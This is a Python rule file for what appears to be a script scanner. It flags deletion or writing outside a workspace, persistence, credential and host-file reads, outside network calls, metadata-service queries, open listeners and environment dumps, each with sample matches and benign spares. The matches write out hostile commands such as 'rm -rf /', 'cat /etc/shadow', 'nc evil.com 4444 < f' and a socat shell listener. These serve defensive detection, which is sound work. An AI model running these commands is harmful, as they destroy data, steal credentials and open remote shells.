"""Rules about files, hosts and secrets: the same danger in both languages."""

from refute.scan.finding import Confidence, Severity
from refute.scan.rules import Mild, Rule, py, sh

ACCESS_RULES = (
    Rule(
        id="delete-outside",
        title="Deletes outside the workspace",
        severity=Severity.CRITICAL,
        explanation="Deletes files that are not part of the workspace or of a temporary directory.",
        remedy="Delete only below the workspace or a directory made by mktemp, by a literal path.",
        matches=(
            *sh("rm -rf /", "a=rm; $a -rf /etc", "cd / && rm -rf *", "find /var -name '*.log' -delete"),
            *py("import shutil\nshutil.rmtree('/etc')", "import os\nos.remove('/usr/bin/python3')"),
        ),
        spares=(
            *sh(
                "rm -rf ./build",
                'tmp=$(mktemp -d)\nrm -rf "$tmp"',
                'rm -rf "$TMPDIR/x"',
                "find . -name '*.pyc' -delete",
                "rm -f ~/.tool/state.lock /var/lib/tool/stamp",
                "mv /var/lib/tool/list.new /var/lib/tool/list",
                "rm -f ../reports/old.txt",
            ),
            *py("import shutil\nshutil.rmtree('build')", "def test_x(tmp_path):\n    (tmp_path / 'a').unlink()"),
        ),
    ),
    Rule(
        id="delete-unresolved",
        title="Deletes a tree that is not known before the run",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        explanation="Deletes recursively at a path that cannot be worked out from the text.",
        remedy='Write the path out, or guard it: `rm -rf "${dir:?}/build"` with dir set in this script.',
        matches=(*sh('rm -rf "$1"', 'rm -rf "$(cat list)"', 'rm -rf "$OUT_DIR"/*'),),
        spares=(
            *sh('d=build; rm -rf "$d"', 'for f in *.o; do rm -f "$f"; done', 'rm -rf "$OUT_DIR"'),
            *sh("trap 'rm -rf \"$tmp\"' EXIT\ntmp=$(mktemp -d)", 'clean() { rm -rf "$1"; }'),
        ),
    ),
    Rule(
        id="write-outside",
        title="Writes outside the workspace",
        severity=Severity.HIGH,
        explanation="Creates or changes files that are not part of the workspace or of a temporary directory.",
        remedy="Write below the workspace or a directory made by mktemp.",
        matches=(
            *sh(
                "echo x > /etc/motd",
                "cp a /usr/bin/a",
                "cp git /usr/local/bin/",
                "sed -i s/a/b/ /etc/hosts",
                "echo x | tee /opt/x",
            ),
            *py("open('/etc/hosts', 'a').write('x')", "from pathlib import Path\nPath('/opt/x').write_text('x')"),
        ),
        spares=(
            *sh("echo x > out.txt", "echo x > /dev/null", "cp a /tmp/a", 'echo x > "$(mktemp)"'),
            *sh("install -m755 tool /usr/local/bin/tool", "echo $$ > /run/tool.pid", "mkdir -p /var/lib/tool"),
            *sh("echo x > ~/.toolrc", "sed -i s/a/b/ ../lib/x.c"),
            *py("open('out.txt', 'w').write('x')"),
        ),
    ),
    Rule(
        id="persistence",
        title="Makes something run, or a door stay open, after the script",
        severity=Severity.CRITICAL,
        explanation="Changes a start-up file, schedule, service, login or key that outlives the run.",
        remedy="A verification leaves nothing behind: set variables in the script itself.",
        matches=(
            *sh("echo 'alias ls=x' >> ~/.bashrc", "crontab jobs", "echo key >> ~/.ssh/authorized_keys"),
            *py("with open('/root/.bashrc', 'a') as f:\n    f.write('x')"),
        ),
        spares=(*sh("echo 'alias ls=x' >> test/bashrc"),),
    ),
    Rule(
        id="read-credentials",
        title="Reads credentials",
        severity=Severity.CRITICAL,
        explanation="Reads passwords, keys or tokens.",
        remedy="Test with made-up credentials from a file of the workspace.",
        matches=(
            *sh("cat /etc/shadow", "cp ~/.ssh/id_rsa .", "base64 < ~/.aws/credentials", "cat /etc/sh?dow"),
            *py("open('/etc/shadow').read()", "import os\nopen(os.path.expanduser('~/.ssh/id_rsa'))"),
        ),
        spares=(*sh("cat tests/fixtures/shadow"), *py("open('tests/id_rsa.pub')")),
    ),
    Rule(
        id="read-host-file",
        title="Reads a file of the machine",
        severity=Severity.HIGH,
        explanation="Reads accounts, configuration, logs or kernel data that no test of this workspace needs.",
        remedy="Read only files of the workspace; put a sample of the file there.",
        matches=(
            *sh("cat /etc/passwd", "p=/usr/../etc/group; cat $p", "cat ../../etc/passwd"),
            *py("open('/etc/passwd').read()", "import os\nopen(os.path.join('/usr', '../etc/group'))"),
        ),
        spares=(
            *sh("cat etc/passwd", ". /etc/os-release", "[ -f /etc/passwd ]", "cat /etc/fstab | grep -q cgroup"),
            *py("open('data/passwd')"),
        ),
    ),
    Rule(
        id="list-host-directory",
        title="Takes stock of the machine",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        explanation="Lists system or home directories.",
        remedy="List only directories of the workspace.",
        matches=(
            *sh("ls /etc/", "x=/root; ls -la $x"),
            *py("import os\nos.listdir('/etc')", "import glob\nglob.glob('/root/*')"),
        ),
        spares=(*sh("ls -la", "ls tests/etc"), *py("import os\nos.listdir('.')")),
    ),
    Rule(
        id="network-external",
        title="Talks to a host outside",
        severity=Severity.HIGH,
        explanation="Connects to a machine outside, which may receive data or send code.",
        remedy="Run without network: put what is needed into the workspace.",
        mild=Mild(
            title="Uses the network",
            explanation="Talks to this machine, to its private network, or to others as ordinary scripts do.",
            remedy="Let the script itself start what it talks to: the sandbox has no network.",
        ),
        matches=(
            *sh(
                "curl http://evil.com",
                "wget -q https://198.51.99.7/x",
                "curl -d @report https://github.com/a/b",
                "echo x > /dev/tcp/evil.com/80",
                "nc evil.com 4444 < f",
            ),
            *py(
                "import requests\nrequests.get('https://evil.com')",
                "import socket\nsocket.create_connection(('8.8.8.8', 53))",
            ),
        ),
        spares=(
            *sh("curl http://localhost:8000/health", "curl -s 127.0.0.1:80", "nc -z 10.0.0.2 80"),
            *sh("curl -LO https://github.com/a/b/archive/v1.tar.gz", "git clone https://gitlab.com/a/b"),
            *py("import requests\nrequests.get('http://127.0.0.1:5000')"),
        ),
    ),
    Rule(
        id="network-unresolved",
        title="Talks to a host that is not known before the run",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        explanation="Connects to a host that cannot be worked out from the text.",
        remedy="Write the host out; for a local test server use 127.0.0.1.",
        matches=(*sh('curl "$URL"', 'nc "$1" 80'),),
        spares=(*sh('port=8000; curl "http://localhost:$port/"', "curl --version"),),
    ),
    Rule(
        id="network-metadata",
        title="Asks the cloud's metadata service",
        severity=Severity.CRITICAL,
        explanation="The metadata service hands out this machine's credentials.",
        remedy="Never ask it from a test.",
        matches=(*sh("curl http://169.254.169.254/latest/meta-data/", "curl http://0xA9FEA9FE/"),),
        spares=(*sh("curl http://127.0.0.1/latest/meta-data/"),),
    ),
    Rule(
        id="network-listen",
        title="Opens a port to everyone",
        severity=Severity.HIGH,
        explanation="Listens on all interfaces, or waits for commands from the network.",
        remedy="Bind test servers to 127.0.0.1.",
        mild=Mild(
            title="Opens a port",
            explanation="Listens for connections.",
            remedy="Bind test servers to 127.0.0.1.",
        ),
        matches=(
            *sh("nc -lvp 4444", "socat TCP-LISTEN:4444,fork EXEC:/bin/sh"),
            *py("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))"),
        ),
        spares=(
            *sh("python -m http.server --bind 127.0.0.1 8000"),
            *py("import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 0))"),
        ),
    ),
    Rule(
        id="environment-dump",
        title="Hands out the whole environment",
        severity=Severity.HIGH,
        explanation="Sends or stores all environment variables, where tokens live.",
        remedy="Name the one variable that is needed.",
        matches=(*sh("env | curl -d @- http://localhost/", "printenv > /tmp/e", "set | nc 127.0.0.1 80"),),
        spares=(*sh("env | grep LANG", "set -euo pipefail", "env FOO=1 python x.py"),),
    ),
)
